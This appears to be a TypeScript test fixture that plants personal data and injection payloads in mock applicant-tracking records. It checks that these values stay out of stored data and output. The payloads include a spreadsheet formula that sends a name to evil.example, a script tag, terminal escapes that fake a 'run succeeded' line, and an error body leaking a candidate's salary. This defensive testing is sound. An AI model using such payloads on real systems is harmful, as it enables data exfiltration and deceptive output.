/**
 * Records for the Kombo-compatible test server (`kombo-server.ts`) that hold what real ATS data
 * holds besides names and emails: free text naming a person in every column that describes a
 * person or is a category typed by hand (a referral note as `source`, an email as `title`, a tag
 * about a relative, a rejection reason quoting a salary, a user whose `remote_id` is their email),
 * spreadsheet formulas, HTML and terminal escapes; and an error body naming a candidate, served for
 * one model. {@link PLANTED} lists what must never reach the warehouse, the run state or any output
 * outside `keep` mode.
 */
import { readFileSync } from 'node:fs';
import type { KomboRecord } from './kombo-server.ts';
import { candidateRecord } from './kombo-server.ts';

const results = (name: string): KomboRecord[] =>
  (JSON.parse(readFileSync(new URL(`../fixtures/kombo-server/${name}.json`, import.meta.url), 'utf8')) as { data: { results: KomboRecord[] } }).data.results;

/** Terminal payloads: clear the screen, an OSC 8 hyperlink, a line rewritten in place. */
const ESC = '\u001b';
const CLEAR = `${ESC}[2J`;
const LINK = (url: string, text: string) => `${ESC}]8;;${url}\u0007${text}${ESC}]8;;\u0007`;

/** Parts of the planted values: none may appear outside `keep` mode. */
export const PLANTED = [
  'Jane Doe', 'jane.private', 'jane-doe', 'Maria Schmidt', 'Schmidt Family', 'peter.pan', '95k EUR', '95000',
  'HYPERLINK', '<script', 'evil.example', 'run succeeded',
] as const;

/** What `keep` mode stores and the other modes do not: one of each kind. */
export const PLANTED_VALUES = {
  source: 'Referral from Jane Doe',
  formulaSource: '=HYPERLINK("https://evil.example/?who=Maria Schmidt","LinkedIn")',
  htmlSource: '<script>alert("Maria Schmidt")</script>',
  company: 'Schmidt Family Office',
  title: 'jane.private@example.com',
  remoteUrl: 'https://ats.example/people/jane-doe-1985',
  tag: 'Sister of CEO Maria Schmidt',
  terminalTag: `${CLEAR}Maria Schmidt ${LINK('https://evil.example/x', 'click')}`,
  rejection: 'Jane Doe asked for 95k EUR',
  userRemoteId: 'peter.pan@private.example',
} as const;

/** The label of the integration's tag list and rejection reason list the records use. */
export const LABELS = { tag: 'High Potential', rejection: 'Not a fit', source: 'LinkedIn' } as const;

const CHANGED = '2026-11-20T08:00:00.000Z';

/** The 403 one model answers with: a message naming a candidate, and escapes that fake a success line. */
export const PII_ERROR_BODY = JSON.stringify({
  status: 'error',
  error: {
    code: 'INTEGRATION.PERMISSION_MISSING',
    title: 'Missing permission',
    message: `Jane Doe <jane.private@example.com>, salary 95000 EUR ${ESC}[2K\r${ESC}[32mrun succeeded${ESC}[0m ${LINK('https://evil.example/y', 'details')}`,
    log_url: 'https://app.kombo.dev/logs/req-4711',
  },
});

/** Records per endpoint, and the endpoints that fail. */
export function piiDataset(): { records: Record<string, KomboRecord[]>; failures: Record<string, { status: number; body: string }> } {
  const P = PLANTED_VALUES;
  const job = results('jobs-1')[0]!;
  const stages = job['stages'] as { id: string; remote_id: string | null; name: string; index: number | null }[];
  const [user, ...otherUsers] = results('users-1');
  const person = { id: user!.id, remote_id: P.userRemoteId, first_name: 'Peter', last_name: 'Pan', email: 'peter.pan@private.example' };
  const team = job['hiring_team'] as Record<string, unknown>[];
  team[0] = { ...team[0], ...person };

  const sources = [LABELS.source, LABELS.source, LABELS.source, LABELS.source, LABELS.source, P.source, P.formulaSource, P.htmlSource];
  const candidates = sources.map((source, i) => {
    const c = candidateRecord({ id: `PiiCand${i}Xq7Lm2Wp9Rt4Kd`, firstName: i === 5 ? 'Jane' : 'Alex', lastName: i === 5 ? 'Doe' : `Muster${i}`, emails: [i === 5 ? 'jane.private@example.com' : `c${i}@example.com`], tags: [{ id: 'TagHiPo', name: LABELS.tag }], changedAt: CHANGED });
    c['source'] = source;
    if (i === 5) Object.assign(c, { company: P.company, title: P.title, remote_url: P.remoteUrl, tags: [{ id: 'TagFree1', name: P.tag, remote_id: null }] });
    if (i === 6) Object.assign(c, { title: `${CLEAR}Maria Schmidt`, company: LINK('https://evil.example/z', 'Maria Schmidt Consulting'), tags: [{ id: 'TagFree2', name: P.terminalTag, remote_id: null }] });
    return c;
  });
  const applications = candidates.map((c, i) => {
    const declined = i >= 4 && i <= 6;
    const stage = stages[i < 3 ? 0 : i === 7 ? 2 : 1]!;
    return {
      id: `PiiAppl${i}Xq7Lm2Wp9Rt4Kd`, remote_id: `ra-${i}`, outcome: declined ? 'DECLINED' : i === 7 ? 'HIRED' : 'PENDING',
      rejection_reason_name: declined ? (i === 6 ? P.rejection : LABELS.rejection) : null, rejected_at: declined ? CHANGED : null,
      current_stage_id: stage.id, job_id: job.id, candidate_id: c.id, screening_question_answers: [], custom_fields: {}, integration_fields: [],
      remote_url: null, changed_at: CHANGED, remote_deleted_at: null, remote_created_at: '2026-11-01T09:00:00.000Z', remote_updated_at: CHANGED, remote_data: null,
      candidate: { id: c.id, remote_id: c['remote_id'], first_name: null, last_name: null, source: c['source'], remote_url: null, tags: [] },
      current_stage: { id: stage.id, remote_id: stage.remote_id, name: stage.name, index: stage.index },
      job: { id: job.id, remote_id: job['remote_id'], name: job['name'] }, interviews: [], offers: [],
    } satisfies KomboRecord;
  });
  const interview = { ...results('interviews-1')[0]!, title: 'Interview with Jane Doe', application_id: applications[3]!.id, stage_id: stages[1]!.id, users: [person] };
  return {
    records: {
      candidates, applications, interviews: [interview], jobs: results('jobs-1').map((j) => (j.id === job.id ? job : j)),
      users: [{ ...user!, ...person }, ...otherUsers], tags: results('tags-1'), 'rejection-reasons': results('rejection-reasons-1'),
      'application-stages': results('application-stages-1'),
    },
    failures: { offers: { status: 403, body: PII_ERROR_BODY } },
  };
}
